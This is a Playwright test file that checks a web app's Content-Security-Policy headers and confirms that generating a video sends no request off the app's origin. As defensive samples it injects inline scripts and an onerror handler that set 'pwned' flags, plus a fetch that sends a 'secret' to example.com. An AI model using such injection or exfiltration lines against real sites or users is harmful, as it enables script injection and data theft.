// Security of the built app: every page carries the Content-Security-Policy (meta and header; the engine worker its
// own), an injected inline script or handler does not run, a fetch to a host the policy does not name is blocked,
// and the whole newcomer path (load, install the demo model, generate) works under it without one request leaving
// the app's origin.
import { readdir } from 'node:fs/promises';
import path from 'node:path';
import sharp from 'sharp';
import { expect, test } from './fixtures.ts';

const NAME = 'Tiny demo (random weights)';
// The build the preview server serves (LOCALMOTION_OUT_DIR keeps test runs sharing a machine apart).
const DIST_ASSETS = path.join(import.meta.dirname, '..', process.env.LOCALMOTION_OUT_DIR ?? 'dist', 'assets');

test.use({ webgpu: false });

/** The CSP violations the page reports, collected from the start (window.__violations). */
function collectViolations(): void {
  const w = window as unknown as { __violations: string[] };
  w.__violations = [];
  document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
}
const violations = (page: import('@playwright/test').Page) => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);

test('every page has the policy, inline script and handlers do not run, and fetches go only where the policy says', async ({ page, request }) => {
  await page.addInitScript(collectViolations);
  const response = await page.goto('/');
  const header = response!.headers()['content-security-policy']!;
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(meta).toContain("script-src 'self' 'wasm-unsafe-eval';");
  expect(meta).toContain("object-src 'none'");
  // The header says the same, plus who may frame the app (only a header can).
  expect(header).toBe(`${meta}; frame-ancestors *`);
  for (const path of ['/embed-demo.html', '/?embed=1']) {
    expect((await request.get(path)).headers()['content-security-policy'], path).toBe(header);
  }
  const demo = await (await request.get('/embed-demo.html')).text();
  expect(demo).toContain(`<meta http-equiv="Content-Security-Policy" content="${meta}" />`);
  // The engine worker takes the policy sent with its script: the page's, plus eval for protobufjs.
  const worker = (await readdir(DIST_ASSETS)).find((f) => /^engine\.worker-[\w-]+\.js$/.test(f));
  expect(worker).toBeDefined();
  const workerPolicy = (await request.get(`/assets/${worker}`)).headers()['content-security-policy']!;
  expect(workerPolicy).toContain("script-src 'self' 'wasm-unsafe-eval' 'unsafe-eval'");
  expect(workerPolicy).not.toContain("'unsafe-inline'");

  // An injected inline script and an inline event handler do not run, and the page hears about both.
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.__pwned = true';
    document.body.append(script);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__pwnedToo = true');
    img.src = '/no-such-picture.png';
    document.body.append(img);
  });
  await expect.poll(() => violations(page)).toEqual(expect.arrayContaining(['script-src-elem inline', 'script-src-attr inline']));
  expect(await page.evaluate(() => [(window as { __pwned?: boolean }).__pwned, (window as { __pwnedToo?: boolean }).__pwnedToo])).toEqual([undefined, undefined]);

  // A fetch to a host outside connect-src is refused by the policy (a violation report names it; that it fails at
  // all proves nothing, as a cross-origin fetch without CORS headers fails anyway).
  await page.evaluate(() => fetch('https://example.com/collect?secret=1').catch(() => undefined));
  expect(await violations(page)).toContain('connect-src https://example.com/collect?secret=1');
});

test('the newcomer path works under the policy, and every request stays on the app’s origin', async ({ page, context, baseURL }) => {
  test.setTimeout(180_000);
  const origin = new URL(baseURL!).origin;
  const requests: string[] = [];
  context.on('request', (r) => requests.push(r.url()));
  await page.addInitScript(collectViolations);

  await page.goto('/');
  await page.getByRole('region', { name: 'Model' }).getByRole('button', { name: `Install ${NAME}` }).click();
  const generate = page.getByRole('region', { name: 'Generate' });
  const png = await sharp({ create: { width: 48, height: 40, channels: 3, background: '#3a7' } }).png().toBuffer();
  await generate.getByLabel('Image', { exact: true }).setInputFiles({ name: 'green.png', mimeType: 'image/png', buffer: png });
  await generate.getByLabel('Prompt', { exact: true }).fill('a ball rolling slowly to the right');
  await generate.getByLabel('Preset').selectOption('quick');
  const started = Date.now();
  await generate.getByRole('button', { name: 'Generate' }).click();
  await expect(generate.getByRole('link', { name: 'Download MP4' })).toBeVisible({ timeout: 120_000 });
  console.log(`install + quick generation under the CSP: ${Date.now() - started} ms after Generate; ${requests.length} requests`);

  expect(await violations(page)).toEqual([]);
  const elsewhere = requests.filter((url) => !url.startsWith('blob:') && !url.startsWith('data:') && new URL(url).origin !== origin);
  expect(elsewhere).toEqual([]);
  // The run really went through the network it was allowed: the page, its scripts, the model's files.
  expect(requests.some((url) => url.includes('/models/'))).toBe(true);
});
